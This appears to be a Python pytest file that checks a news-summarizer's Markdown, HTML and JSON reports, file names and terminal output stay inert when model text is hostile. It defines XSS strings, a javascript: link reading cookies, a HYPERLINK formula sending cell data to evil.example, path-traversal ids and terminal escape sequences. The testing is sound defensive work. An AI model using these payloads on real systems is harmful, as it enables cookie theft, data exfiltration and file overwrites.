"""Model output is untrusted: hostile text stays text in every rendered output, and no id
or name becomes a path.

Hostile briefs are rendered to the Markdown brief, the eval report's Markdown and HTML,
and the produced documents are parsed (Markdown rendered by markdown-it, HTML read by
``html.parser``) to check that no element, attribute or link comes from model text.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

import summarizer
from summarizer import evaluate as ev
from summarizer.cli import app
from summarizer.models import Brief
from summarizer.render import md_escape, to_markdown

runner = CliRunner()

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
MD_IMAGE = "![x](https://evil.example/p.png)"
JS_LINK = "[click](javascript:alert(document.cookie))"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
AUTOLINK = "<https://evil.example/auto>"
REFERENCE = "![ref][1]\n\n[1]: https://evil.example/ref.png"
ANCHOR = '<a href="https://evil.example" onclick="steal()">x</a>'
HOSTILE = [SCRIPT, IMG, MD_IMAGE, JS_LINK, FORMULA, AUTOLINK, REFERENCE, ANCHOR, "+1+2", "-3+4", "@SUM(A1:A9)"]

ARTICLE = (
    "Ghanaian Health Minister Kofi Mensah said on Friday that vaccine deliveries rose 40 percent. "
    "The ministry page showed <script>alert('article')</script> before it was taken down."
)


def hostile_brief() -> Brief:
    """A brief whose every free-text field carries markup, links, images or formulas."""
    name = IMG
    return Brief.model_validate(
        {
            "headline": f"{SCRIPT} {MD_IMAGE}",
            "summary": f"{JS_LINK} {REFERENCE} {ANCHOR}",
            "participants": [
                {"name": name, "aliases": [MD_IMAGE, FORMULA], "role": JS_LINK, "affiliation": AUTOLINK,
                 "kind": "person"},
                {"name": "Kofi Mensah", "aliases": ["@SUM(A1:A9)"], "role": "-3+4", "affiliation": "+1+2",
                 "kind": "person"},
            ],
            "topics": [{"label": MD_IMAGE, "category": "health", "evidence": [SCRIPT, JS_LINK]}],
            "figures": [
                {"text": FORMULA, "value": 40, "value_max": None, "unit": f"{IMG}|percent", "qualifier": "exact",
                 "measure": f"{JS_LINK} | {MD_IMAGE}", "period": AUTOLINK, "speaker": name, "evidence": REFERENCE},
            ],
            "security_concerns": [
                {"issue": ANCHOR, "region": MD_IMAGE, "raised_by": name, "evidence": SCRIPT},
            ],
        }
    )


class _Elements(HTMLParser):
    """Every element, attribute and text run of an HTML document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    handle_startendtag = handle_starttag

    def handle_data(self, data):  # type: ignore[no-untyped-def]
        self.text.append(data)


def parse_html(document: str) -> _Elements:
    parser = _Elements()
    parser.feed(document)
    parser.close()
    return parser


def markdown_as_html(document: str) -> _Elements:
    """The Markdown rendered as CommonMark (raw HTML allowed, as GitHub allows some) plus tables."""
    return parse_html(MarkdownIt("commonmark").enable("table").render(document))


def assert_inert(elements: _Elements, allowed: set[str]) -> None:
    assert set(elements.tags) <= allowed, set(elements.tags) - allowed
    assert not {"script", "img", "a", "iframe", "object", "embed", "svg", "form"} & set(elements.tags)
    assert [a for a in elements.attributes if a[1].startswith("on")] == []
    assert [a for a in elements.attributes if a[1] in {"href", "src", "srcset", "action", "formaction"}] == []


MARKDOWN_TAGS = {"h1", "h2", "h3", "p", "ul", "li", "strong", "em", "hr", "table", "thead", "tbody", "tr", "th", "td"}


def test_md_escape_breaks_every_markdown_construct_and_keeps_one_line():
    escaped = md_escape(f"{MD_IMAGE} {JS_LINK} {SCRIPT} a|b\nnext")
    # brackets escaped are what keeps links and images inert; parentheses stay as a reader sees them
    assert escaped == (
        r"\!\[x\](https://evil.example/p.png) \[click\](javascript:alert(document.cookie)) "
        r"\<script\>alert(1)\</script\> a\|b next"
    )


def test_the_markdown_brief_shows_its_own_words_without_escapes():
    from summarizer.models import Brief

    brief = Brief.model_validate({"figures": [{"text": "12 percent", "value": 12, "unit": "percent",
                                               "qualifier": "exact", "measure": "growth (of trade)",
                                               "evidence": "grew 12 percent"}]})
    row = next(line for line in to_markdown(brief).splitlines() if line.startswith("| 12 percent"))
    assert row.endswith("| growth (of trade) |  | (the article) |")


def test_markdown_brief_renders_hostile_text_as_text():
    document = to_markdown(hostile_brief(), with_meta=False)
    elements = markdown_as_html(document)
    assert_inert(elements, MARKDOWN_TAGS)
    shown = " ".join(elements.text)
    for text in (SCRIPT, IMG, MD_IMAGE, JS_LINK, FORMULA, AUTOLINK, ANCHOR):
        assert text in shown, text  # shown to the reader as written, not swallowed
    # the figures table keeps its six columns: a "|" in model text is no cell break
    rows = [line for line in document.splitlines() if line.startswith("| ") and "figure" not in line]
    assert len(rows) == 1
    html = MarkdownIt("commonmark").enable("table").render(document)
    assert html.count("<td>") == 6


def _dataset(folder: Path) -> list:
    """Two fixtures: one with a hostile id (file names may hold '<' and '>'), one plain."""
    folder.mkdir()
    gold = {"participants": [{"name": "Kofi Mensah", "aliases": ["Mensah"], "role": "Health Minister of Ghana",
                              "affiliation": "Ghana", "kind": "person"}],
            "topics": [], "figures": [], "security_concerns": []}
    for fixture_id in (IMG.replace("/", ""), "plain"):
        (folder / f"{fixture_id}.txt").write_text(ARTICLE, encoding="utf-8")
        (folder / f"{fixture_id}.gold.json").write_text(json.dumps(gold), encoding="utf-8")
    return ev.load_dataset(folder)


def _hostile_report(tmp_path: Path) -> tuple[dict, list]:
    fixtures = _dataset(tmp_path / "data")
    hostile_id = next(f.id for f in fixtures if f.id != "plain")
    predictions = {
        hostile_id: ev.Prediction(hostile_id, hostile_brief()),
        "plain": ev.Prediction("plain", None, f"APIRequestError: {IMG} {MD_IMAGE} {JS_LINK}"),
    }
    report, _ = ev.evaluate(fixtures, predictions=predictions, datasets=[SCRIPT])
    return report, fixtures


def test_eval_markdown_report_renders_hostile_text_as_text(tmp_path):
    report, _ = _hostile_report(tmp_path)
    document = ev.render_markdown(report)
    elements = markdown_as_html(document)
    assert_inert(elements, MARKDOWN_TAGS | {"code"})
    shown = " ".join(elements.text)
    assert IMG in shown and MD_IMAGE in shown  # the hostile id, the invented items, the error


def test_eval_html_report_escapes_model_text_ids_errors_and_the_article(tmp_path):
    report, fixtures = _hostile_report(tmp_path)
    paths = ev.write_reports(report, fixtures, tmp_path / "reports")
    assert sorted(p.name for p in (tmp_path / "reports").iterdir()) == ["report.html", "report.json", "report.md"]
    assert paths[2].name == "report.html"
    elements = parse_html(paths[2].read_text(encoding="utf-8"))
    allowed = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "h4", "p", "table", "tr", "th",
               "td", "span", "b", "i", "br", "details", "summary", "div"}
    assert_inert(elements, allowed)
    # the only meta elements are the page's own: charset and a policy that loads nothing
    assert [a for a in elements.attributes if a[0] == "meta"] == [
        ("meta", "charset", "utf-8"),
        ("meta", "http-equiv", "Content-Security-Policy"),
        ("meta", "content", "default-src 'none'; style-src 'unsafe-inline'"),
    ]
    shown = "".join(elements.text)
    for text in (SCRIPT, IMG, MD_IMAGE, JS_LINK, FORMULA, ANCHOR, "<script>alert('article')</script>"):
        assert text in shown, text


def test_no_csv_export_exists_so_no_formula_can_reach_a_spreadsheet():
    # A CSV export must neutralise cells that begin with = + - @ (and tab or CR); when one is
    # added, this test is the reminder to test that too.
    package = Path(summarizer.__file__).parent
    writers = [p.name for p in package.rglob("*.py") if "import csv" in p.read_text(encoding="utf-8")]
    assert writers == []


# --- ids and names never become paths ---------------------------------------------------------

HOSTILE_IDS = ["../../x", "a/b", "/tmp/evil-absolute", "..", "nested/../../../y"]


def _files(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


def _workdir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    # Two levels down, so "../../x" resolved against the working directory would land
    # inside tmp_path and be seen.
    work = tmp_path / "one" / "two" / "work"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    lines = [json.dumps({"id": i, "text": f"{ARTICLE} Dispatch {n}."}) for n, i in enumerate(HOSTILE_IDS)]
    (work / "in.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return work


def test_batch_ids_with_slashes_and_dots_stay_inside_the_output_lines(tmp_path, monkeypatch):
    work = _workdir(tmp_path, monkeypatch)
    result = runner.invoke(app, ["batch", "in.jsonl", "-o", "out.jsonl", "--backend", "offline", "--workers", "1",
                                 "--cache-path", "cache.sqlite"])
    assert result.exit_code == 0, result.stderr
    records = [json.loads(line) for line in (work / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sorted(r["id"] for r in records) == sorted(HOSTILE_IDS)
    files = _files(tmp_path)
    assert {f for f in files if not f.startswith("one/two/work/cache.sqlite")} == {
        "one/two/work/in.jsonl", "one/two/work/out.jsonl", "one/two/work/out.jsonl.run.json"}
    assert not Path("/tmp/evil-absolute").exists()


def test_batch_export_names_its_files_after_the_prefix_never_an_id(tmp_path, monkeypatch):
    work = _workdir(tmp_path, monkeypatch)
    result = runner.invoke(app, ["batch", "export", "in.jsonl", "--prefix", "req/requests", "--max-requests", "2"])
    assert result.exit_code == 0, result.stderr
    assert _files(tmp_path) == {"one/two/work/in.jsonl", "one/two/work/req/requests-0001.jsonl",
                                "one/two/work/req/requests-0002.jsonl", "one/two/work/req/requests-0003.jsonl"}
    custom_ids = [json.loads(line)["custom_id"] for path in sorted((work / "req").iterdir())
                  for line in path.read_text(encoding="utf-8").splitlines()]
    assert sorted(custom_ids) == sorted(HOSTILE_IDS)


def test_eval_reports_go_to_fixed_names_whatever_the_prediction_ids(tmp_path, monkeypatch):
    work = _workdir(tmp_path, monkeypatch)
    _dataset(work / "data")
    predictions = work / "preds.jsonl"
    predictions.write_text("".join(json.dumps({"id": i, "error": {"message": "x"}}) + "\n" for i in HOSTILE_IDS),
                           encoding="utf-8")
    result = runner.invoke(app, ["eval", "--dataset", "data", "--predictions", "preds.jsonl", "--report-dir", "rep",
                                 "--format", "json"])
    # no fixture has a prediction: nothing was scored (exit 1), and the reports say so
    assert result.exit_code == 1 and "every article failed" in result.stderr, result.stderr
    report = json.loads((work / "rep" / "report.json").read_text(encoding="utf-8"))
    assert sorted(report["unknown_prediction_ids"]) == sorted(HOSTILE_IDS)
    new = {f for f in _files(tmp_path) if "/data/" not in f and not f.endswith(("in.jsonl", "preds.jsonl"))}
    assert new == {"one/two/work/rep/report.json", "one/two/work/rep/report.md", "one/two/work/rep/report.html"}


# --- control characters never reach a terminal ---------------------------------------------------

ESCAPES = "\x1b]0;pwned\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\\x1b[2J\x9b31m\r"


def controls_in(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f]


def test_a_model_reply_with_escape_sequences_prints_as_text_in_markdown_and_exactly_in_json(tmp_path):
    import copy

    import loopback as lb
    from test_llm_backend import ARTICLE as LLM_ARTICLE, REPLY

    reply = copy.deepcopy(REPLY)
    reply["headline"] = f"Talks {ESCAPES} in Lisbon"
    article = tmp_path / "article.txt"
    article.write_text(LLM_ARTICLE, encoding="utf-8")
    with lb.LoopbackServer() as server:
        server.default = lb.brief(reply)
        base = ["brief", str(article), "--backend", "openai", "--base-url", server.url, "--model", "m"]
        shown = runner.invoke(app, [*base, "--format", "md"])
        exact = runner.invoke(app, [*base, "--format", "json"])
    assert shown.exit_code == 0 and exact.exit_code == 0, shown.stderr + exact.stderr
    assert controls_in(shown.stdout) == [] and "pwned" in shown.stdout.splitlines()[0]
    assert json.loads(exact.stdout)["headline"] == f"Talks {ESCAPES} in Lisbon"


def test_a_server_error_with_escape_sequences_is_one_plain_line(tmp_path):
    import loopback as lb
    from test_llm_backend import ARTICLE as LLM_ARTICLE

    article = tmp_path / "article.txt"
    article.write_text(LLM_ARTICLE, encoding="utf-8")
    with lb.LoopbackServer() as server:
        server.default = lb.error(400, message=f"bad request {ESCAPES} here")
        result = runner.invoke(app, ["brief", str(article), "--backend", "openai", "--base-url", server.url, "--model", "m"])
    assert result.exit_code == 1
    assert controls_in(result.stderr) == [] and len(result.stderr.strip().splitlines()) == 1
    assert "bad request ]0;pwned" in result.stderr


def test_eval_markdown_and_reports_carry_no_control_characters(tmp_path):
    text = {"plain": ev.Prediction("plain", None, f"APIRequestError: the server said {ESCAPES}")}
    fixture_dir = tmp_path / "data"
    fixture_dir.mkdir()
    (fixture_dir / "plain.txt").write_text(ARTICLE, encoding="utf-8")
    (fixture_dir / "plain.gold.json").write_text(json.dumps({"participants": []}), encoding="utf-8")
    report, _ = ev.evaluate(ev.load_dataset(fixture_dir), predictions=text)
    assert controls_in(ev.render_markdown(report)) == []
